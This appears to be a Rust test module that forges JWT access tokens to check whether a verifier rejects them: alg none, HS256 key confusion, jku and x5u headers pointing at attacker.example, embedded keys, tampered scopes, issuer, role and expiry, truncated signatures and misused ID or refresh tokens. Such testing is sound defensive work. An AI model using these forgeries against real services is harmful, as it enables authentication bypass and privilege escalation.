//! The attacks of row T4a, one entry each: what is tried, what whoever tries it hopes for, and what is sent.

use serde_json::{Value, json};

use super::{
    claims::{Members, seconds},
    doors::Door,
    forge::{Material, Signer},
};

/// An attack.
pub(super) struct Attack {
    /// Names it for tests and in the list of what was seen.
    pub(super) id: &'static str,
    /// What is tried.
    pub(super) name: &'static str,
    /// What the verifier would have to get wrong.
    pub(super) hope: &'static str,
    /// What is sent.
    pub(super) bait: Bait,
    /// Where to.
    pub(super) door: Door,
}

/// What is sent in the place of the access token.
pub(super) enum Bait {
    /// Its claims under another header, signed anew.
    Header(fn(&mut Members, &Material), Signer),
    /// Other claims under its header and signature.
    Claims(fn(&mut Members, &Material)),
    /// Itself, without the end of its signature.
    Cut,
    /// The ID token.
    IdToken,
    /// The refresh token.
    RefreshToken,
}

/// Ten years, in seconds.
const TEN_YEARS: i64 = 315_576_000;

const fn at_whoami(id: &'static str, name: &'static str, hope: &'static str, bait: Bait) -> Attack {
    Attack { id, name, hope, bait, door: Door::Whoami }
}

/// Every attack, in the order of the list.
pub(super) static ATTACKS: [Attack; 14] = [
    at_whoami(
        "none",
        "alg: none",
        "No signature at all, and a verifier that does as the token says.",
        Bait::Header(none, Signer::Nobody),
    ),
    at_whoami(
        "hs256",
        "HS256 with the public key",
        "The public key, taken for a shared secret: everyone has it.",
        Bait::Header(hs256, Signer::PublicKey),
    ),
    at_whoami(
        "kid",
        "Unknown kid",
        "A key nobody knows, and a verifier that goes looking for it.",
        Bait::Header(kid, Signer::Own),
    ),
    at_whoami(
        "jku",
        "jku: keys at our address",
        "A verifier that fetches keys from where the token says.",
        Bait::Header(jku, Signer::Own),
    ),
    at_whoami(
        "jwk",
        "jwk: our key in the header",
        "A token that brings the key it is to be verified with.",
        Bait::Header(jwk, Signer::Own),
    ),
    at_whoami(
        "x5u",
        "x5u: our certificate",
        "The same by way of a certificate.",
        Bait::Header(x5u, Signer::Own),
    ),
    at_whoami(
        "crit",
        "crit: an extension",
        "A verifier that passes over what it must understand.",
        Bait::Header(crit, Signer::Own),
    ),
    at_whoami(
        "scopes",
        "More scopes, old signature",
        "A verifier that decodes and does not verify.",
        Bait::Claims(scopes),
    ),
    at_whoami(
        "company",
        "Another company's HR admin",
        "Issuer and role of another company, under the old signature.",
        Bait::Claims(company),
    ),
    at_whoami(
        "expiry",
        "Ten more years",
        "A later exp under the old signature.",
        Bait::Claims(expiry),
    ),
    at_whoami(
        "cut",
        "Half a signature",
        "A verifier that compares as much as is there.",
        Bait::Cut,
    ),
    Attack {
        id: "id",
        name: "ID token as access token",
        hope: "Right key, right company, wrong use: a verifier that does not look what a token is for. Sent to the employees.",
        bait: Bait::IdToken,
        door: Door::Employees,
    },
    at_whoami(
        "refresh",
        "Refresh token as access token",
        "The longest-lived of the three, at the wrong door.",
        Bait::RefreshToken,
    ),
    Attack {
        id: "refresh-employees",
        name: "Refresh token at the employees",
        hope: "The same where the data is.",
        bait: Bait::RefreshToken,
        door: Door::Employees,
    },
];

fn none(header: &mut Members, _: &Material) {
    header.remove("kid");
    header.insert("alg".into(), "none".into());
}

fn hs256(header: &mut Members, _: &Material) {
    header.insert("alg".into(), "HS256".into());
}

/// Our own key signs with ES256, whatever the pool's does: a verifier that took it would find the signature good.
fn own(header: &mut Members) {
    header.insert("alg".into(), "ES256".into());
}

fn kid(header: &mut Members, _: &Material) {
    own(header);
    header.insert("kid".into(), "a-key-of-ours".into());
}

fn jku(header: &mut Members, _: &Material) {
    own(header);
    header.insert("jku".into(), "https://attacker.example/jwks.json".into());
}

fn jwk(header: &mut Members, material: &Material) {
    own(header);
    header.insert("jwk".into(), material.own_key.clone());
}

fn x5u(header: &mut Members, _: &Material) {
    own(header);
    header.insert("x5u".into(), "https://attacker.example/certificate.pem".into());
}

fn crit(header: &mut Members, _: &Material) {
    own(header);
    header.insert("crit".into(), json!(["let-me-in"]));
    header.insert("let-me-in".into(), Value::Bool(true));
}

fn scopes(claims: &mut Members, _: &Material) {
    claims.insert("scope".into(), "hr/employees.write hr/salaries.read root".into());
}

fn company(claims: &mut Members, material: &Material) {
    claims.insert("iss".into(), material.other_issuer().into());
    claims.insert("cognito:groups".into(), json!(["hr_admin"]));
}

fn expiry(claims: &mut Members, _: &Material) {
    let later = seconds(claims, "exp").unwrap_or_default() + TEN_YEARS;
    claims.insert("exp".into(), later.into());
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::pages::tokens::forge::{Draft, draft, tests::material};

    /// T4a: the list has every attack of the row, and no two send the same.
    #[test]
    fn every_attack_sends_something_of_its_own() {
        let ids: HashSet<_> = ATTACKS.iter().map(|attack| attack.id).collect();
        assert_eq!(ids.len(), ATTACKS.len());
        for id in ["none", "hs256", "kid", "jku", "jwk", "x5u", "crit"] {
            assert!(ids.contains(id), "{id}");
        }
        let material = material();
        let mut sent = HashSet::new();
        for attack in &ATTACKS {
            let draft = draft(&attack.bait, &material).unwrap();
            let (Draft::Whole(text) | Draft::Unsigned(text, _)) = draft;
            assert_ne!(text, material.access, "{}", attack.id);
            assert!(sent.insert((text, attack.door)), "{}", attack.id);
        }
    }

    /// T4a: what claims another company claims it whole: its issuer and the role that may do everything.
    #[test]
    fn another_companys_admin_is_of_another_company() {
        let (material, mut claims) = (material(), Members::new());
        company(&mut claims, &material);
        assert_eq!(claims["iss"], "http://localhost:8080/eu-local-1_BetaCo1");
        assert_eq!(claims["cognito:groups"], json!(["hr_admin"]));
    }
}
